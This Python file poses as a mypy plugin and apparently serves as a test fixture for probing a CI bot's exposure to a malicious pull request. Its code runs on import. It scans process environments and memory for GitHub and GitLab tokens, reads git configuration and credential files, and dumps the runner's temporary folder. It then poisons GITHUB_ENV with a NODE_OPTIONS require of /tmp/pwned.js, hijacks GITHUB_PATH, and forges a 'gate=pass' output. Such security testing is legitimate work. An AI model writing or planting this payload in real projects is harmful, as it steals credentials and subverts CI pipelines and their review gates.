"""What a pull request's mypy plugin can do as mypy imports it: read what every process of its
user shows in /proc, the checkout's git configuration, the user's git credentials and the
runner's temporary folder, and write the runner's file commands. Everything found goes to the
file LOOT names; the test looks there for the secrets it gave the bot."""

import os
import re
import subprocess
from pathlib import Path

from mypy.plugin import Plugin

LOOT = "@LOOT@"
MARKERS = (b"ghs_", b"glpat-", b"glcbt-", b"eyJ")
out: list[str] = []


def attempt(what, read):
    try:
        data = read()
    except OSError as exc:
        data = f"refused: {exc.strerror}"
    except subprocess.CalledProcessError as exc:
        data = f"refused: {exc}"
    if isinstance(data, bytes):
        data = data.decode("latin1")
    out.append(f"== {what}\n{data.replace(chr(0), chr(10))}")


def scan_memory(pid):
    regions = Path(f"/proc/{pid}/maps").read_text().splitlines()
    hits, total = [], 0
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
        for line in regions:
            m = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
            if not m or "[vvar]" in line or "[vsyscall]" in line:
                continue
            start, end = int(m[1], 16), int(m[2], 16)
            for at in range(start, end, 1 << 20):
                if total > 512 << 20:
                    break
                try:
                    mem.seek(at)
                    chunk = mem.read(min(1 << 20, end - at))
                except OSError:
                    break
                total += len(chunk)
                for marker in MARKERS:
                    hits += [chunk[i:i + 80].decode("latin1")
                             for i in (x.start() for x in re.finditer(re.escape(marker), chunk))][:400]
    return f"{total} bytes read\n" + "\n".join(hits)


def walk(folder):
    text = []
    for p in sorted(Path(folder).rglob("*")):
        if p.is_file():
            try:
                text.append(f"-- {p}\n{p.read_bytes()[:65536].decode('latin1')}")
            except OSError as exc:
                text.append(f"-- {p}: {exc.strerror}")
    return "\n".join(text)


def file_commands():
    folder = Path(os.environ.get("RUNNER_TEMP", "/nonexistent")) / "_runner_file_commands"
    found = {}
    for name, prefix in (("GITHUB_ENV", "set_env_"), ("GITHUB_PATH", "add_path_"),
                         ("GITHUB_OUTPUT", "set_output_")):
        guess = sorted(folder.glob(prefix + "*")) if folder.is_dir() else []
        found[name] = os.environ.get(name) or (str(guess[0]) if guess else None)
    return found


def attack():
    out.append(f"== attack ran\nmypy plugin as uid {os.getuid()} in {os.getcwd()}")
    for pid in sorted(p for p in os.listdir("/proc") if p.isdigit() and p != str(os.getpid())):
        attempt(f"environ {pid}", lambda pid=pid: Path(f"/proc/{pid}/environ").read_bytes())
        attempt(f"cmdline {pid}", lambda pid=pid: Path(f"/proc/{pid}/cmdline").read_bytes())
        attempt(f"mem {pid}", lambda pid=pid: scan_memory(pid))
    attempt("git config", lambda: subprocess.run(["git", "config", "--list", "--show-origin"],
                                                 capture_output=True, text=True, check=True).stdout)
    attempt(".git/config", lambda: (Path.cwd() / ".git" / "config").read_bytes())
    home = Path(os.environ.get("HOME") or Path.home())
    attempt("~/.git-credentials", lambda: (home / ".git-credentials").read_bytes())
    attempt("~/.config/git/credentials", lambda: (home / ".config/git/credentials").read_bytes())
    attempt("runner temp", lambda: walk(os.environ.get("RUNNER_TEMP") or "/tmp"))
    poison = {"GITHUB_ENV": "NODE_OPTIONS=--require=/tmp/pwned.js\n",
              "GITHUB_PATH": "/tmp/pwned-bin\n", "GITHUB_OUTPUT": "gate=pass\n"}
    for name, file in file_commands().items():
        if not file:
            continue
        def write(name=name, file=file):
            with open(file, "a") as handle:
                handle.write(poison[name])
            return f"wrote {file}"
        attempt(f"write {name}", write)
    with open(LOOT, "a") as handle:
        handle.write("\n".join(out) + "\n")


attack()


def plugin(version):
    return Plugin
